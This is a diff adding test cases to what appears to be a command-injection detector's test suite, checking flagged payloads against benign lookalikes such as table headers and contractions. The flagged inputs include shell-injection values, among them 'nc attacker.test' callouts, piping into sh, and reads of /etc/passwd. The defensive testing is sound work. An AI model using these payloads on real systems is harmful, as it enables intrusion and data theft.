@@ -980,3 +980,92 @@ describe('cmdi round 7: a strong word alone between pipes, then a plain word, is
     expectSameWhenSplit(d, [input], 'query');
   });
 });
+
+describe("cmdi round 8: a command word followed by an English contraction leaves a quote the shell never closes (; who's driving?)", () => {
+  it.each([["; who'", 'cmdi.chained-command'], [";who''", 'cmdi.chained-command'], ["; who's'", 'cmdi.chained-command'], ["|id'", 'cmdi.chained-command'],
+    ["';id;'", 'cmdi.chained-command'], ["x;wh'o'ami", 'cmdi.chained-command'], ["; time's' sleep 5'", 'cmdi.chained-command'],
+    ["; who'x", 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(["haha ok; who's driving?", "ok; time's up", "lol; cat's out of the bag", "sure | who'd know", ";who's"])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 8: net needs an argument; a command that needs one ends the value after a pipe (Net; toen, Istanbul | TR)', () => {
+  it.each([['& net user', 'cmdi.chained-command'], ['net;whoami', 'cmdi.chained-command'], ['| NET USER', 'cmdi.chained-command'],
+    ['| tr a-z A-Z < /etc/passwd', 'cmdi.redirection'], ['| sleep 5', 'cmdi.chained-command'], ['| tr -d x', 'cmdi.chained-command'],
+    ['; sleep 5', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Net; toen kwam hij binnen', 'Istanbul | TR', 'Istanbul | tr', 'Ankara | TR | 06', 'x | sleep'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe("cmdi round 8: R's pipe %>% after a command word is code, a %VAR% still counts", () => {
+  it.each([['df %HOMEDRIVE%', 'cmdi.command-with-args'], ['dir %TEMP%', 'cmdi.command-with-args'], ['& type %WINDIR%\\win.ini', 'cmdi.chained-command'],
+    ['| echo %USERNAME%', 'cmdi.chained-command'], ['df %', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['df %>% filter(x > 1) %>% select(id, name)', 'x %>% head', 'df %<>% mutate(y = 1)'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 8: a strong word opening the value piped into a plain word heads a CSV file or a table (id|name|email)', () => {
+  it.each([['id|nc attacker.test 4444', 'cmdi.command-with-args'], ['id|', 'cmdi.command-with-args'], ['id||x', 'cmdi.command-with-args'],
+    ['whoami|base64', 'cmdi.command-with-args'], ['id | sh', 'cmdi.command-with-args'], ['echo | gcc7.4', 'cmdi.command-with-args'],
+    ['id|tee /tmp/x', 'cmdi.command-with-args'], ['id|;', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['id|name|email', 'ID | Name | Created', 'https://example.com/api?fields=id|name|email', 'cat|dog|bird'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 8: su given a user name runs nothing without a terminal (; su familia), given an option it counts', () => {
+  it.each([['; su -c id root', 'cmdi.chained-command'], ["| su root -c 'id'", 'cmdi.chained-command'], [';su - root', 'cmdi.chained-command'],
+    ['; su root', 'cmdi.chained-command'], ['; su root; id', 'cmdi.chained-command'], ['; su', 'cmdi.chained-command']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Vive en su casa; su familia también', 'Gracias; su pedido está listo', 'Merci; su respuesta fue rápida'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe("cmdi round 8: after a strong table cell (ID | ...), a weak word is judged in its own command position", () => {
+  it.each([['x | id | date', 'cmdi.chained-command'], ['id | date', 'cmdi.chained-command'], ['x | id | sort', 'cmdi.chained-command'],
+    ['x | id | sleep 5', 'cmdi.chained-command'], ['id | time whoami', 'cmdi.chained-command'], ['x | id | date | nc attacker.test 80', 'cmdi.chained-command'],
+    ['ID | nc attacker.test 80', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Name | ID | Type | Status', 'ID | Date | Amount', 'ID | Type | Status', 'user_id|name|role'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi round 8: echo or cat alone before ; opening the value, or ending it after a pipe, runs nothing an attacker wants', () => {
+  it.each([['echo;id', 'cmdi.chained-command'], ['cat;whoami', 'cmdi.chained-command'], ['echo|sh', 'cmdi.chained-command'], [';echo;', 'cmdi.chained-command'],
+    ['echo $PATH;', 'cmdi.command-with-args'], ['; echo x', 'cmdi.chained-command'], ['x | echo hi', 'cmdi.chained-command'],
+    ['| cat /etc/passwd', 'cmdi.chained-command'], ['echo | gcc7.4', 'cmdi.command-with-args']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Echo; Delta; Foxtrot', 'cat; dog; bird', 'dog|cat', 'Alpha | Bravo | Echo', 'Kinshasa | CD'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
